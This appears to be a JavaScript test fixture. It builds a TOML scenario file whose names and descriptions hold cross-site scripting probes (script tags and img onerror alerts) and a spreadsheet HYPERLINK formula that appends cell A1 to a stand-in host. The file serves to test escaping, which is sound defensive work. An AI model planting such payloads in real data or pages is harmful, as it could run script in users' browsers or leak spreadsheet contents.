// A scenario whose names are markup and formulas.

export const SCRIPT = "<script>alert(1)</script>";
export const FORMULA = '=HYPERLINK("http://example.invalid?"&A1,"open")';

const text = (value) => JSON.stringify(value);

export const hostile = `format = 1
name = ${text(SCRIPT)}
description = ${text("</script><img src=x onerror=alert(2)>")}
narrative = ${text("<!--<script>")}
extends = "rackcast:base"

[vendors.dell]
name = ${text(SCRIPT)}

[vendors.hpe]
name = ${text(FORMULA)}

[explore]
inputs = ["vendors.dell.delivery_months", "servers.asic_share"]

[[events]]
name = ${text(FORMULA)}
when = "market.ai.orders[2027] > 1"

[[events]]
name = ${text("<img src=x onerror=alert(3)>")}
when = "market.ai.orders[2027] > 600"
`;
